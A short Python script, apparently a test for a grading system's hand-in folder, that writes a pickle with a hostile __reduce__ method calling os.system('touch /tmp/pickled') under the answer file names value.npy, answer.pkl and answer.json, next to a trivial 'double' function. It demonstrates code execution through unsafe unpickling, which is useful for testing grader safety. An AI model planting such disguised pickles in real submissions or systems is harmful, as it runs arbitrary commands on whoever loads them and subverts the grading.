# A pickle that runs a command when it is loaded.
# %% q2
import os
import pathlib
import pickle


class Command:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pickled",))


folder = pathlib.Path(os.environ["YOURTURN_HAND_IN"], "x")
for name in ("value.npy", "answer.pkl", "answer.json"):
    (folder / name).write_bytes(pickle.dumps(Command()))


def double(t):
    return 2 * t
